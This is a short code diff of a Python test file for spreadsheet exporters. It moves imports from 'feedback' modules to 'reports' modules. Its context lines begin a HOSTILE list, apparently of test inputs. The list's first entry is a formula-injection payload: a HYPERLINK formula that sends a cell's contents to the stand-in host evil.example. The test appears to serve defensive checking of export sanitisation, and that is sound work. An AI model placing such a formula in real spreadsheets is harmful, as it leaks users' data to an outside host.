@@ -11,8 +11,8 @@ import pytest
 from openpyxl import Workbook, load_workbook
 
 from catalog.exporter import write_catalog
-from feedback.render import dossiers_xlsx, satisfaction_xlsx
-from feedback.reports import DossierReport, DossierRow, Group, SatisfactionReport, Shares
+from reports.figures import DossierReport, DossierRow, Group, SatisfactionReport, Shares
+from reports.render import dossiers_xlsx, satisfaction_xlsx
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?d="&A2,"Xem chi tiết")',
